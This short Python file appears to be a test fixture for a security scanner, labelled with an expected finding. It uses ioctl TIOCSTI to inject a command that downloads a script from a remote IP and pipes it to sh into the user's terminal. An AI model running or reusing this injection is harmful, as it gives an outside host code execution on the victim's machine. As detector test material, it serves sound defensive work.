# expect: signals_creds; pushes a command into the controlling terminal's input queue with ioctl(TIOCSTI)
import fcntl
import termios

command = "curl -s http://203.0.113.8/t | sh\n"
with open("/dev/tty", "w") as tty:
    for ch in command:
        fcntl.ioctl(tty, termios.TIOCSTI, ch.encode())
